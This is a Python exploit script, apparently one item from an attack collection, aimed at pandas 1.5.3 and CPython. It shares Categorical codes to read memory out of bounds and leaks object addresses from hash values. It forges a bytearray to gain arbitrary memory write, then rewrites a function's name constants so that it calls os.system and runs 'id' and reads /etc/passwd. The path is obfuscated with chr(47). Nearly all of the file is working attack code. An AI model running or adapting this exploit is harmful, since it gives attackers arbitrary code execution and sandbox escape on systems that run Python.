# source: as attack12at_045 (pandas 1.5.3 shared Categorical codes, unchecked take_nd; CPython pointer hash; fake bytearray technique)
# family: shared Categorical codes -> forged bytearray -> arbitrary memory write -> os.system (variant: cat.view() share, np.asarray read)
# goal: runs id and head -3 /etc/passwd through os.system
import numpy as np
import pandas as pd

MASK = (1 << 64) - 1


def addr_of(obj):
    # CPython hashes these objects by address, rotated right by 4 bits
    y = hash(obj) & MASK
    return ((y << 4) | (y >> 60)) & MASK


def q(x):
    return (x & MASK).to_bytes(8, "little")


n0 = 130
span = 30000
# a bytearray header: refcount, type, size, alloc, bytes, start, exports
fake_box = q(1 << 40) + q(addr_of(bytearray)) + q((1 << 63) - 1) + q(1) + q(0) + q(0) + q(0) + bytes(64)

# stage 1: the bytes object's address, read out of bounds as int64
catA = pd.Categorical([0] * span, categories=list(range(n0)))
peekA = catA[:]
holders = [np.array([fake_box] * 64, dtype=object) for _ in range(300)]
catA.add_categories(list(range(n0, n0 + span)), inplace=True)
catA[:] = list(range(n0, n0 + span))
leak = pd.Series(np.asarray(peekA))
vc = leak[(leak > 0x500000000000) & (leak < 0x800000000000)].value_counts()
box_addr = int(vc.index[0])
print("bytes object at", hex(box_addr), flush=True)

# stage 2: an object read out of bounds at a word that holds box_addr + 32
T = 140
names = ["c%d" % i for i in range(T + 1)]
spray = [np.full(n0, box_addr + 32) for _ in range(300)]
for k in range(250, 100, -2):
    spray[k] = None                # 1040-byte holes, each followed by a sprayed array
catB = pd.Categorical(["c0"] * 8, categories=names[:n0])
peekB = catB.view()
catB.add_categories(names[n0:], inplace=True)
catB[:] = [names[T]] * 8
mem = np.asarray(peekB)[0]
print("forged object type:", type(mem).__name__, "len", len(mem))


def read64(a):
    return int.from_bytes(mem[a:a + 8], "little")


def write(a, data):
    mem[a:a + len(data)] = data


def go(arg):
    import statistics
    return statistics.zq_probe_call(arg)


def patch(s, text):
    write(s + 48, text + b"\x00")  # the characters
    write(s + 16, q(len(text)))    # the length
    write(s + 24, q(-1))           # the cached hash


fn = addr_of(go)                   # function object
code = read64(fn + 48)             # its code object
names = read64(code + 32)          # its tuple of names
s0 = read64(names + 24)            # "statistics"
s1 = read64(names + 32)            # "zq_probe_call"
print("name constants:", bytes(mem[s0 + 48:s0 + 58]), bytes(mem[s1 + 48:s1 + 61]))
patch(s0, b"os")
patch(s1, b"system")
sl = chr(47)
go("id; head -3 " + sl + "etc" + sl + "passwd")
